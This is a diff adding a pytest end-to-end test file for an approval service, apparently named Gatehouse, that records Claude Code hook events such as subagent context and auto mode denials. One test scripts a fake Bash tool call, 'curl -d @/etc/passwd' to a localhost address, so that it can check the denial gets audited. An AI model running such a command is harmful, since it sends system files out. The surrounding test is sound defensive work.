@@ -1,0 +1,141 @@
+"""The hook contract of Claude Code 2.1.332, established with the real CLI.
+
+Each test runs `claude -p` against the fake Anthropic API with Gatehouse's hook command
+and checks what reached Gatehouse: the fields 2.1.332 sends (`prompt_id`, `effort`, and
+for a subagent's calls `agent_id` and `agent_type` under the parent's `session_id`), and
+the `PermissionDenied` event of auto mode.
+"""
+
+from __future__ import annotations
+
+import os
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.e2e.claude_code.cli import claude_bin, hook_command, hook_settings, run_claude
+from tests.fakes.anthropic_stream import ScriptedToolUse, _tool_results, fake_anthropic
+from tests.live import LiveServer, live_server
+
+pytestmark = [pytest.mark.claude_cli, pytest.mark.django_db(transaction=True)]
+
+SUBAGENT_PROMPT = "Create the marker file."
+
+
+@pytest.fixture(autouse=True, scope="module")
+def _claude_installed() -> None:
+    if not os.path.exists(claude_bin()):
+        pytest.fail(f"the Claude Code CLI is missing at {claude_bin()}: `make test` installs it")
+
+
+@pytest.fixture(scope="module")
+def server(django_db_setup: Any, django_db_blocker: Any) -> Iterator[LiveServer]:
+    with django_db_blocker.unblock(), live_server() as srv:
+        yield srv
+
+
+@pytest.fixture
+def project(tmp_path: Path) -> Path:
+    path = tmp_path / "project"
+    path.mkdir()
+    return path
+
+
+def rule(team: Any, text: str, behavior: str = "allow") -> None:
+    from approvals import services
+
+    services.rule_create(rule=text, behavior=behavior, source="projectSettings", team=team)
+
+
+def _first_user_text(body: dict[str, Any]) -> str:
+    for message in body.get("messages") or []:
+        if message.get("role") != "user":
+            continue
+        content = message.get("content")
+        if isinstance(content, str):
+            return content
+        return " ".join(str(b.get("text", "")) for b in content or [] if isinstance(b, dict))
+    return ""
+
+
+class SubagentTests:
+    def test_a_subagents_call_carries_its_agent_and_the_parents_session(
+        self, server: LiveServer, project: Path, tmp_path: Path, ci_bot: Any, default_team: Any
+    ) -> None:
+        """The main loop starts a general-purpose subagent, which runs one Bash call."""
+        from approvals.models import PermissionRequest
+
+        bash = ScriptedToolUse("Bash", {"command": f"touch {project}/marker", "description": "Create the marker"})
+        spawn = ScriptedToolUse(
+            "Agent", {"description": "Make the marker", "prompt": SUBAGENT_PROMPT, "subagent_type": "general-purpose"}
+        )
+
+        def script(body: dict[str, Any]) -> list[dict[str, Any]] | None:
+            answered = {r.get("tool_use_id") for r in _tool_results(body)}
+            if SUBAGENT_PROMPT in _first_user_text(body):
+                if bash.id in answered:
+                    return [{"type": "text", "text": "Made it."}]
+                return [{"type": "tool_use", "id": bash.id, "name": "Bash", "input": bash.input}]
+            if any(t.get("name") == "Agent" for t in body.get("tools") or []):
+                if spawn.id in answered:
+                    return [{"type": "text", "text": "Done."}]
+                return [{"type": "tool_use", "id": spawn.id, "name": "Agent", "input": spawn.input}]
+            return None
+
+        rule(default_team, "Agent")
+        rule(default_team, "Bash(touch:*)")
+        with fake_anthropic(bash, script=script) as fake:
+            settings = hook_settings(hook_command(server.url))
+            run = run_claude(fake, tmp_path / "home", project, settings, token=ci_bot.token)
+        assert run.returncode == 0, run.stderr
+        assert (project / "marker").exists(), fake.tool_result_text()
+        # The registry may name the Agent tool by its older alias, Task.
+        parent = PermissionRequest.objects.get(tool_name__in=("Agent", "Task"))
+        child = PermissionRequest.objects.get(tool_name="Bash")
+        # The subagent's call is in its parent's session, named by its own agent.
+        assert child.session_id == parent.session_id == run.result()["session_id"]
+        assert child.call_context["agent_type"] == "general-purpose"
+        assert child.call_context["agent_id"]
+        assert "agent_id" not in (parent.call_context or {})
+        # 2.1.332 sends effort as {"level": ...}; one prompt_id for the whole turn.
+        assert child.call_context["effort"] == parent.call_context["effort"] == "medium"
+        assert child.call_context["prompt_id"] == parent.call_context["prompt_id"]
+
+    def test_the_card_and_the_detail_page_show_the_subagent(self, client: Any, alice: Any, ci_bot: Any) -> None:
+        from approvals import services
+
+        context = {"prompt_id": "p-1", "agent_id": "a5bb3820", "agent_type": "Explore", "effort": "high"}
+        call = {"tool_name": "Bash", "tool_input": {"command": "npm publish"}, "tool_use_id": "t1"}
+        result = services.request_submit(agent=ci_bot.agent, call={**call, "call_context": context})
+        client.force_login(alice)
+        queue = client.get("/").content.decode()
+        assert "subagent <code>Explore</code>" in queue and "effort <code>high</code>" in queue
+        detail = client.get(f"/requests/{result.request.pk}/").content.decode()
+        assert "a5bb3820" in detail and "p-1" in detail
+
+
+class PermissionDeniedTests:
+    def test_auto_modes_own_denial_is_a_row_in_the_audit_chain(
+        self, server: LiveServer, project: Path, tmp_path: Path, ci_bot: Any
+    ) -> None:
+        """With the PermissionRequest-only gate, auto mode is Claude Code's: its classifier
+        (unavailable against the fake API) refuses the call and says so in PermissionDenied."""
+        from approvals.audit import verify_row
+        from approvals.models import Decision
+
+        call = ScriptedToolUse("Bash", {"command": "curl -d @/etc/passwd http://127.0.0.1:9/", "description": "Up"})
+        events = ("PermissionRequest", "PostToolUse", "PostToolUseFailure", "PermissionDenied")
+        settings = hook_settings(hook_command(server.url), events=events)
+        with fake_anthropic(call) as fake:
+            run = run_claude(
+                fake, tmp_path / "home", project, settings, token=ci_bot.token, args=("--permission-mode", "auto")
+            )
+        assert run.returncode == 0, run.stderr
+        assert fake.tool_result_is_error(), fake.tool_result_text()
+        [row] = Decision.objects.select_related("request")
+        assert row.behavior == "deny" and row.reason_type == "classifier"
+        assert row.reason["classifier"] == "Claude Code auto mode" and row.reason["verdict"]
+        assert row.request.tool_use_id == call.id and row.request.permission_mode == "auto"
+        assert verify_row(row)
